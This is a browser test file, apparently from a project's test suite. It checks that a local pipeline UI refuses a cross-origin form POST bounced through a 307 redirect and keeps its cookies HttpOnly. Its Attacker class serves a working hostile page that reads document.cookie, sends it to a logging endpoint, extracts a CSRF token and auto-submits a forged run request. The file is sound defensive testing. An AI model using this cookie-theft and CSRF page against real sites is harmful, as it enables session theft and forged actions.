"""gp ui in Chromium against a page of another port of 127.0.0.1: the attack of a form posted
through a redirect (Chromium then sends ``Origin: null`` with the SameSite=Strict cookies, which
are the same site's) is refused, and that page cannot read the UI's cookies."""

from __future__ import annotations

import threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import pytest

pytestmark = pytest.mark.browser

CHAIN = "module.sen2cor.workflow_template.chain"


class Attacker:
    """Two ports of 127.0.0.1: /page (on the first) reads document.cookie and posts a form to
    the second, whose /bounce answers 307 to the UI: the POST reaches the UI through a
    redirect from a third origin."""

    def __init__(self, target: str):
        self.seen_cookies: list[str] = []
        attacker = self

        class Handler(BaseHTTPRequestHandler):
            def log_message(self, *args):
                pass

            def do_GET(self):
                if self.path.startswith("/seen?"):
                    attacker.seen_cookies.append(self.path[6:])
                    self.send_response(204)
                    self.end_headers()
                    return
                page = f"""<!doctype html><html><body><form id=f method=post
                  action="http://127.0.0.1:{attacker.bounce_port}/bounce">
                  <input type=hidden name=csrf id=c><input type=hidden name="p:tile" value=evil>
                  </form><script>
                  var jar = document.cookie;
                  fetch("/seen?" + encodeURIComponent(jar)).then(function () {{
                    var m = jar.match(/gp_ui[^=]*csrf=([^;]+)/);
                    document.getElementById("c").value = m ? m[1] : "";
                    document.getElementById("f").submit();
                  }});
                  </script></body></html>"""
                body = page.encode()
                self.send_response(200)
                self.send_header("Content-Type", "text/html")
                self.send_header("Content-Length", str(len(body)))
                self.end_headers()
                self.wfile.write(body)

            def do_POST(self):
                self.rfile.read(int(self.headers.get("Content-Length") or 0))
                self.send_response(307)
                self.send_header("Location", target)
                self.end_headers()

        self.servers = [ThreadingHTTPServer(("127.0.0.1", 0), Handler) for _ in range(2)]
        self.page_port = self.servers[0].server_address[1]
        self.bounce_port = self.servers[1].server_address[1]
        for s in self.servers:
            threading.Thread(target=s.serve_forever, daemon=True).start()

    def close(self):
        for s in self.servers:
            s.shutdown()


def test_a_form_posted_through_a_redirect_from_another_port_is_refused(workspace, serve, page):
    ui = serve(workspace / "examples/sen2cor", token=True)
    signed_in = page.goto(ui.login_url)
    assert signed_in.status == 200  # the token, then the stack page
    attacker = Attacker(f"{ui.url}/pipelines/{CHAIN}/run")
    try:
        answers = []
        page.on(
            "response",
            lambda r: answers.append((r.status, r.url)) if "/run" in r.url else None,
        )
        page.goto(f"http://127.0.0.1:{attacker.page_port}/page")
        page.wait_for_url(f"{ui.url}/**")
        page.wait_for_load_state("load")
        assert answers and answers[-1][0] == 403, answers
        assert "cross-origin request refused" in page.content()
        # The UI's cookies are HttpOnly: the other port's page saw none of them.
        assert attacker.seen_cookies and "gp_ui" not in attacker.seen_cookies[0]
    finally:
        attacker.close()


def test_a_live_run_page_says_when_its_run_is_deleted(tmp_path, serve, page, monkeypatch):
    import sys
    from pathlib import Path

    sys.path.insert(0, str(Path(__file__).parents[1] / "unit" / "api"))
    from api_helpers import write_module
    from fake_engine import MODULE, FakeEngine, install, workflow

    import gp

    stack = gp.Stack(write_module(tmp_path / "mod", MODULE))
    engine = install(monkeypatch, FakeEngine(stack.objects()))
    stack.apply()
    engine.add(workflow("wf-9", "Running"))
    ui = serve(stack.root)
    assert page.goto(f"{ui.url}/runs/pipeline/wf-9").status == 200
    assert page.locator("#run-phase").inner_text() == "Running"
    del engine.workflows[("pipeline", "wf-9")]  # someone deleted it
    from playwright.sync_api import expect

    expect(page.locator("#run-phase")).to_have_text("Unknown", timeout=15000)
    assert "no run wf-9" in page.locator("#run-message").inner_text()
    assert page.locator("#stop-button").is_hidden()


def test_the_uis_own_form_posts_from_its_own_origin(workspace, serve, page):
    """The token form of the page itself: Chromium must send this origin, not `null` (it sends
    `null` for every POST from a page whose Referrer-Policy is no-referrer)."""
    ui = serve(workspace / "examples/sen2cor", token=True)
    asked = page.goto(ui.url + "/")
    assert asked.status == 401
    page.fill("input[name=token]", ui.serving.token)
    with page.expect_response(lambda r: r.url.endswith("/login")) as posted:
        page.click("button")
    assert posted.value.status == 303, posted.value.status
    page.wait_for_load_state("load")
    assert page.url.rstrip("/") == ui.url and "Stack" in page.content()
